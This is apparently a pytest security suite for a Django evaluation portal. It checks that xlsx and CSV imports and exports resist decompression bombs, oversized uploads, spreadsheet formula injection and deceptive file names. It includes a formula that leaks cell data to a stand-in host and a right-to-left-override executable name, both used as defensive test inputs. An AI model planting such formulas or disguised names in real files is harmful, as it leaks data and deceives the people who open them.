"""Issue 13, items 1-4 and the malformed-xlsx part of 9: the portal refuses hostile files with a
clear message and bounded memory, never writes people's text as a formula, and never stores or
serves a file under a name that hides what it is. The corpus is tests/security/hostile.py."""

import csv
import io
import json
import os
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from assessments import answer_xlsx
from assessments.instrument_io import load_shipped_spec
from assessments.instrument_xlsx import export_instrument, read_instrument_xlsx
from assessments.models import Answer, Instrument, Track
from evidence import services as evidence_services
from evidence.models import EvidenceArchive, EvidenceVersion
from reports import xlsx as lke_xlsx
from tests.factories import WorkUnitFactory, pdf_bytes, post_files
from tests.security import hostile
from units.models import WorkUnit
from zi_portal import spreadsheets

ROOT = Path(__file__).resolve().parents[2]
GROWTH_LIMIT_KB = 100 * 1024  # the bound: 100 MB of peak memory growth
BOMB_BYTES = 200 * hostile.MiB  # the probe used 300 MiB; 200 MiB took the old readers past 1 GB
# Just past the bound on one part: enough to be refused, small enough that the code before the
# bound (which read it whole into every page, many times over) does not exhaust the test process.
PAGE_BOMB_BYTES = spreadsheets.MAX_PART_BYTES + hostile.MiB
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _subprocess(script: str, *args) -> dict:
    """Runs ``script`` in a fresh Python with Django set up; it prints one JSON line."""
    env = {
        **os.environ,
        "DJANGO_SETTINGS_MODULE": "zi_portal.settings",
        "PYTHONPATH": str(ROOT),
        "SECRET_KEY": "hostile-files-test-only-" + "k" * 40,
    }
    done = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(script), *map(str, args)],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    return json.loads(done.stdout.strip().splitlines()[-1])


# --- 1. xlsx decompression bombs and malformed workbooks ------------------------------------------


@pytest.fixture(scope="module")
def bomb_path(tmp_path_factory):
    path = tmp_path_factory.mktemp("bomb") / "lke-bom.xlsx"
    path.write_bytes(hostile.bomb_xlsx(BOMB_BYTES))
    assert path.stat().st_size < 1024 * 1024  # a small upload, far under the 5 MB cap
    return path


READERS_IN_A_SUBPROCESS = """
    import io, json, resource, sys, types
    import django
    django.setup()
    from django.core.files.uploadedfile import SimpleUploadedFile
    from assessments.instrument_xlsx import read_instrument_xlsx
    from assessments import answer_xlsx
    from units.services import ImportFileError, read_spreadsheet

    raw = open(sys.argv[1], "rb").read()
    assessment = types.SimpleNamespace(instrument=types.SimpleNamespace(code="LKE-ZI-2024", version=1))

    def lke():
        _rows, errors = answer_xlsx._read(SimpleUploadedFile("lke.xlsx", raw), assessment, "mandiri")
        return [str(e) for e in errors]

    def instrument():
        _spec, errors = read_instrument_xlsx(SimpleUploadedFile("instrumen.xlsx", raw))
        return [str(e) for e in errors]

    def units():
        try:
            read_spreadsheet(SimpleUploadedFile("unit.xlsx", raw), required_columns=["kode", "nama", "jenis"])
        except ImportFileError as exc:
            return [str(exc)]
        return []

    reader = {"lke": lke, "instrument": instrument, "units": units}[sys.argv[2]]
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    try:
        errors = reader()
    except Exception as exc:  # the old code's failures must still report the memory they cost
        errors = [f"{type(exc).__name__}: {exc}"]
    after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    print(json.dumps({"growth_kb": after - before, "errors": errors}))
"""


@pytest.mark.parametrize("reader", ["lke", "instrument", "units"])
def test_xlsx_bomb_is_refused_by_every_reader_with_bounded_memory(bomb_path, reader):
    result = _subprocess(READERS_IN_A_SUBPROCESS, bomb_path, reader)
    assert result["growth_kb"] < GROWTH_LIMIT_KB, (
        f"peak memory grew {result['growth_kb'] // 1024} MB"
    )
    assert any("terlalu besar setelah diekstrak" in e for e in result["errors"]), result["errors"]


@pytest.fixture
def page_bomb():
    return hostile.bomb_xlsx(PAGE_BOMB_BYTES)


def _lke_import(client, assessment, raw, name="lke.xlsx"):
    url = reverse("reports:lke_xlsx", args=[assessment.pk])
    return client.post(
        url,
        {"track": "self", "file": SimpleUploadedFile(name, raw, content_type=XLSX), "import": "1"},
    )


def _instrument_import(client, pemda, raw):
    return client.post(
        reverse("assessments:instrument_import"),
        {
            "pemda": pemda.pk,
            "file": SimpleUploadedFile("instrumen.xlsx", raw, content_type=XLSX),
            "import": "1",
        },
    )


def _unit_import(client, pemda, raw):
    return client.post(
        reverse("units:import"),
        {
            "pemda": pemda.pk,
            "file": SimpleUploadedFile("unit.xlsx", raw, content_type=XLSX),
            "import": "1",
        },
    )


def _send_to_every_import(w, login, raw):
    """{import: (response, nothing saved)} for the LKE answers, the instrument and the unit list."""
    counts = (Answer.objects.count(), Instrument.objects.count(), WorkUnit.objects.count())
    lke = _lke_import(login(w["users"]["unit_operator"]), w["assessments"]["own"], raw)
    admin = login(w["users"]["inspektorat_admin"])
    instrument = _instrument_import(admin, w["pemda"]["own"], raw)
    units = _unit_import(admin, w["pemda"]["own"], raw)
    unchanged = counts == (
        Answer.objects.count(),
        Instrument.objects.count(),
        WorkUnit.objects.count(),
    )
    return {"lke": lke, "instrument": instrument, "units": units}, unchanged


def _page_text(response) -> str:
    return response.content.decode().replace("&#x27;", "'")


def test_bomb_sent_to_every_import_page_gets_a_clear_refusal_and_nothing_is_saved(
    w, login, page_bomb
):
    responses, unchanged = _send_to_every_import(w, login, page_bomb)
    for name, response in responses.items():
        assert response.status_code in (200, 400), name
        assert "terlalu besar setelah diekstrak" in _page_text(response), name
    assert unchanged


def test_a_cell_longer_than_excel_allows_is_refused_not_truncated(w, login):
    responses, unchanged = _send_to_every_import(w, login, hostile.long_cell_xlsx())
    for name, response in responses.items():
        assert "sel A1 berisi 40000 karakter" in _page_text(response), name
        assert "batas Excel" in _page_text(response), name
    assert unchanged


def test_a_sheet_claiming_a_million_rows_is_refused(w, login):
    responses, unchanged = _send_to_every_import(w, login, hostile.million_rows_xlsx())
    for name, response in responses.items():
        assert "lebih dari 20000 baris" in _page_text(response), name
    assert unchanged


@pytest.mark.parametrize("case", sorted(hostile.MALFORMED_XLSX))
def test_malformed_workbook_is_a_clear_message_never_a_500(w, login, case):
    raw = hostile.MALFORMED_XLSX[case]()
    responses, unchanged = _send_to_every_import(w, login, raw)
    for name, response in responses.items():
        assert response.status_code in (200, 400), name
        assert "tidak dapat dibaca sebagai spreadsheet" in _page_text(response), name
    assert unchanged


# --- 2. request bodies above the limit ---------------------------------------------------------

UPLOAD_IN_A_SUBPROCESS = """
    import json, resource, sys
    import django
    django.setup()
    from django.core.files.uploadhandler import FileUploadHandler, StopUpload
    from django.core.handlers.wsgi import WSGIRequest
    from evidence.upload import EvidenceUploadHandler
    from tests.security import hostile
    try:
        from zi_portal.middleware import RequestBodyLimits
    except ImportError:  # the code before issue 13: no middleware, the view's parsing alone
        RequestBodyLimits = lambda get_response: get_response

    size = int(sys.argv[2])
    body = hostile.StreamedBody(getattr(hostile, sys.argv[1])(size))
    environ = {
        "REQUEST_METHOD": "POST", "PATH_INFO": "/data-dukung/unggah/", "SERVER_NAME": "testserver",
        "SERVER_PORT": "80", "wsgi.url_scheme": "http", "wsgi.input": body,
        "CONTENT_TYPE": f"multipart/form-data; boundary={hostile.BOUNDARY}", "CONTENT_LENGTH": str(body.length),
    }
    result = {}

    class StoppingHandler(FileUploadHandler):  # any handler stopping an upload as Django documents

        def receive_data_chunk(self, raw_data, start):
            raise StopUpload(connection_reset=False)

        def file_complete(self, file_size):
            return None

    def parse(request):  # what the upload view does with the body
        if sys.argv[3] == "evidence":
            handler = EvidenceUploadHandler(request, limit=25 * 1024 * 1024)
        else:
            handler = StoppingHandler(request)
        request.upload_handlers.insert(0, handler)
        result["files"] = len(request.FILES)
        result["too_large"] = getattr(handler, "too_large", None)

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    RequestBodyLimits(parse)(WSGIRequest(environ))
    result["growth_kb"] = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    print(json.dumps(result))
"""


def test_evidence_upload_of_a_200_mib_part_without_newlines_keeps_memory_bounded():
    result = _subprocess(
        UPLOAD_IN_A_SUBPROCESS, "file_part_without_newlines", 200 * hostile.MiB, "evidence"
    )
    assert result["too_large"] == "besar.pdf" and result["files"] == 0
    assert result["growth_kb"] < GROWTH_LIMIT_KB, (
        f"peak memory grew {result['growth_kb'] // 1024} MB"
    )


def test_any_stopped_upload_discards_the_rest_of_the_body_without_reading_it_by_lines():
    # Django reads what is left of a stopped upload line by line; RequestBodyLimits bounds a line.
    result = _subprocess(
        UPLOAD_IN_A_SUBPROCESS, "file_part_without_newlines", 200 * hostile.MiB, "stopping"
    )
    assert result["files"] == 0
    assert result["growth_kb"] < GROWTH_LIMIT_KB, (
        f"peak memory grew {result['growth_kb'] // 1024} MB"
    )


class UnreadableBody:
    """A request body that fails the test if anything reads it."""

    def read(self, *args):
        raise AssertionError("the request body was read")

    readline = read


def _multipart_unread(client, url, length):
    return client.post(
        url,
        data=b"x",
        content_type=f"multipart/form-data; boundary={hostile.BOUNDARY}",
        **{"wsgi.input": UnreadableBody(), "CONTENT_LENGTH": str(length)},
    )


@pytest.mark.parametrize("role", ["leadership", "tpn_observer", "evaluator"])
def test_read_only_roles_get_403_from_the_evidence_api_before_the_body_is_read(w, api, role):
    response = _multipart_unread(
        api(w["users"][role]), reverse("api:evidence-list"), 10 * hostile.MiB
    )
    assert response.status_code == 403
    assert response.json()["code"] == "permission_denied"


def test_read_only_role_gets_403_from_the_upload_page_before_the_body_is_read(w, login):
    question = w["q"]["PEM-MP-01.a"]
    url = reverse("evidence:upload", args=[w["assessments"]["own"].pk, question.pk])
    assert (
        _multipart_unread(login(w["users"]["leadership"]), url, 10 * hostile.MiB).status_code == 403
    )


def test_body_over_the_limit_is_refused_by_content_length_unread(w, api, login, settings):
    settings.EVIDENCE_MAX_BYTES = 25 * hostile.MiB
    response = _multipart_unread(
        api(w["users"]["unit_operator"]), reverse("api:evidence-list"), 200 * hostile.MiB
    )
    assert response.status_code == 413
    assert (
        response.json()["code"] == "request_too_large"
        and "terlalu besar" in response.json()["detail"]
    )
    # Any other view: REQUEST_MAX_BYTES (the LKE import takes 5 MB files).
    url = reverse("reports:lke_xlsx", args=[w["assessments"]["own"].pk])
    response = _multipart_unread(login(w["users"]["unit_operator"]), url, 200 * hostile.MiB)
    assert response.status_code == 413 and "Permintaan terlalu besar" in response.content.decode()


def test_page_upload_over_the_file_limit_still_answers_and_keeps_later_files(w, login, settings):
    settings.EVIDENCE_MAX_BYTES = 64 * 1024
    question = w["q"]["PEM-MP-01.b"]
    big = SimpleUploadedFile("besar.pdf", pdf_bytes(pad=300 * 1024))
    small = SimpleUploadedFile("kecil.pdf", pdf_bytes("kecil"))
    response = post_files(
        login(w["users"]["unit_operator"]), w["assessments"]["own"], question, big, small
    )
    assert "Berkas “besar.pdf” melebihi batas ukuran 64 KB" in response.content.decode()
    assert list(
        EvidenceVersion.objects.filter(item__question=question).values_list(
            "original_name", flat=True
        )
    ) == ["kecil.pdf"]


# --- 3. formula injection in every xlsx and CSV the portal writes --------------------------------


def _formula_cells(raw: bytes) -> list:
    """Every formula cell of a workbook, read from its XML (an <f> element) and by openpyxl."""
    found = []
    with zipfile.ZipFile(io.BytesIO(raw)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and (
                b"<f>" in zf.read(name) or b"<f " in zf.read(name)
            ):
                found.append(name)
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    for ws in wb.worksheets:
        found += [
            f"{ws.title}!{c.coordinate}"
            for row in ws.iter_rows()
            for c in row
            if c.data_type == "f"
        ]
    return found


def _text_cells(raw: bytes) -> dict:
    """{text: cell} of every text cell."""
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    return {
        c.value: c
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }


def _add_formula_links(w):
    """One link per formula, each alone on its own question (so each starts its LKE cell)."""
    assessment = w["assessments"]["own"]
    questions = [q for code, q in sorted(w["q"].items()) if code != "PEM-MP-01.a"]
    for i, (title, question) in enumerate(zip(hostile.FORMULAS, questions, strict=False)):
        evidence_services.add_link(
            assessment=assessment,
            question=question,
            url=f"https://jepara.go.id/bukti/{i}",
            title=title,
            by=w["users"]["unit_operator"],
        )
    return assessment


def test_lke_xlsx_writes_evidence_titles_as_text(w):
    raw = lke_xlsx.export_lke(_add_formula_links(w))
    assert _formula_cells(raw) == []
    cells = _text_cells(raw)
    hyperlink = cells['=HYPERLINK("http://x?leak="&A2,"Bukti") — https://jepara.go.id/bukti/0']
    assert (
        hyperlink.data_type == "s" and hyperlink.quotePrefix
    )  # stays text even after an edit in Excel
    for i, title in enumerate(hostile.FORMULAS):
        cell = cells[
            f"{title.strip()} — https://jepara.go.id/bukti/{i}"
        ]  # titles are trimmed when saved
        assert cell.data_type == "s" and cell.quotePrefix, repr(title)


def test_lke_xlsx_round_trip_keeps_formula_like_text_and_answers(w):
    assessment = _add_formula_links(w)
    operator = w["users"]["unit_operator"]
    fileobj = SimpleUploadedFile("lke.xlsx", lke_xlsx.export_lke(assessment), content_type=XLSX)
    raw = fileobj.read()
    wb = openpyxl.load_workbook(io.BytesIO(raw))
    ws = wb[answer_xlsx.SHEET]
    header = [c.value for c in ws[answer_xlsx.HEADER_ROW]]
    row = next(
        r for r in ws.iter_rows(min_row=answer_xlsx.HEADER_ROW + 1) if r[0].value == "PEM-MP-01.a"
    )
    row[header.index("mandiri")].value = "Ya"
    edited = io.BytesIO()
    wb.save(edited)
    report = answer_xlsx.import_lke(
        assessment=assessment,
        track=Track.SELF,
        by=operator,
        fileobj=SimpleUploadedFile("lke.xlsx", edited.getvalue(), content_type=XLSX),
    )
    assert report.ok and report.saved == 1, [str(e) for e in report.errors]
    read_back = openpyxl.load_workbook(io.BytesIO(raw), read_only=True, data_only=True)[
        answer_xlsx.SHEET
    ]
    cells = [v for r in read_back.iter_rows(values_only=True) for v in r if isinstance(v, str)]
    for i, title in enumerate(hostile.FORMULAS):  # exactly as saved: nothing added, nothing lost
        assert f"{title.strip()} — https://jepara.go.id/bukti/{i}" in cells, repr(title)


def test_instrument_xlsx_writes_formula_like_text_as_text():
    spec = load_shipped_spec()
    questions = [q for ind in spec["indicators"] for q in ind["questions"]]
    for question, text in zip(questions, hostile.FORMULAS_WITHOUT_WHITESPACE, strict=False):
        question["text"] = text
    raw = export_instrument(spec)  # proves its own round trip: the texts come back exactly
    assert _formula_cells(raw) == []
    cells = _text_cells(raw)
    for text in hostile.FORMULAS_WITHOUT_WHITESPACE:
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    back, errors = read_instrument_xlsx(SimpleUploadedFile("instrumen.xlsx", raw))
    assert errors == [] and back == spec


def test_unit_export_writes_unit_names_as_text_and_imports_back_unchanged(w, login):
    pemda = w["pemda"]["own"]
    for i, name in enumerate(hostile.FORMULAS):
        WorkUnitFactory(pemda=pemda, code=f"F-{i}", name=name)
    client = login(w["users"]["inspektorat_admin"])
    raw = client.get(reverse("units:export", args=[pemda.pk])).content
    assert _formula_cells(raw) == []
    cells = _text_cells(raw)
    for name in hostile.FORMULAS:
        cell = cells[name.replace("\r", "\n")]  # XML reads a carriage return as a line feed
        assert cell.data_type == "s" and cell.quotePrefix, repr(name)
    before = dict(WorkUnit.objects.filter(pemda=pemda).values_list("code", "name"))
    response = _unit_import(client, pemda, raw)
    assert response.status_code == 200 and response.context["report"].ok, response.context[
        "report"
    ].row_errors
    after = dict(WorkUnit.objects.filter(pemda=pemda).values_list("code", "name"))
    for name in hostile.FORMULAS_WITHOUT_WHITESPACE:  # the import trims whitespace
        assert (
            after[f"F-{hostile.FORMULAS.index(name)}"]
            == before[f"F-{hostile.FORMULAS.index(name)}"]
            == name
        )


def _archive(w, assessment):
    archive = evidence_services.request_archive(
        assessment=assessment, by=w["users"]["inspektorat_admin"]
    )
    archive = evidence_services.build_archive(archive=EvidenceArchive.objects.get(pk=archive.pk))
    with default_storage.open(archive.file.name, "rb") as fh:
        return zipfile.ZipFile(io.BytesIO(fh.read()))


def test_evidence_archive_csv_writes_titles_as_text(w):
    zf = _archive(w, _add_formula_links(w))
    text = zf.read("DAFTAR-DATA-DUKUNG.csv").decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    titles = [r["judul"] for r in rows]
    for title in hostile.FORMULAS:
        assert "'" + title.strip() in titles, repr(title)  # titles are trimmed when saved
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
            assert not value.startswith("-") or value.startswith("-") and value[1:].isdigit(), row


# --- 4. names that hide what a file is ----------------------------------------------------------


@pytest.mark.parametrize(
    "sent,expected", hostile.DANGEROUS_NAMES, ids=[e for _s, e in hostile.DANGEROUS_NAMES]
)
def test_file_is_stored_served_and_zipped_under_a_name_that_shows_what_it_is(
    w, api, login, sent, expected
):
    assessment, question = w["assessments"]["own"], w["q"]["PEM-MP-01.b"]
    item = evidence_services.upload_file(
        assessment=assessment,
        question=question,
        by=w["users"]["unit_operator"],
        uploaded_file=ContentFile(pdf_bytes(f"isi {expected}"), name=sent),
    )
    version = item.current_version
    assert (version.original_name, item.title) == (expected, expected)
    page = login(w["users"]["evaluator"]).get(reverse("evidence:download", args=[version.pk]))
    assert page["Content-Disposition"] == f'attachment; filename="{expected}"'
    by_api = api(w["users"]["evaluator"]).get(reverse("api:evidence-download", args=[item.pk]))
    assert by_api["Content-Disposition"] == f'attachment; filename="{expected}"'
    names = _archive(w, assessment).namelist()
    assert f"{question.code}/{item.pk}-v1-{expected}" in names


def test_a_name_stored_before_names_were_made_safe_is_served_and_zipped_safe(w, login):
    item = w["items"]["own"]
    EvidenceVersion.objects.filter(pk=item.current_version_id).update(
        original_name="laporan\u202efdp.exe"
    )
    page = login(w["users"]["evaluator"]).get(
        reverse("evidence:download", args=[item.current_version_id])
    )
    assert page["Content-Disposition"] == 'attachment; filename="laporanfdp.exe.pdf"'
    assert any(
        n.endswith("-laporanfdp.exe.pdf") for n in _archive(w, w["assessments"]["own"]).namelist()
    )


def test_page_upload_of_a_dangerous_name_is_stored_with_its_real_extension(w, login):
    question = w["q"]["PEM-MP-01.b"]
    post_files(
        login(w["users"]["unit_operator"]),
        w["assessments"]["own"],
        question,
        SimpleUploadedFile("laporan.bat", pdf_bytes("bat")),
    )
    assert EvidenceVersion.objects.get(item__question=question).original_name == "laporan.bat.pdf"
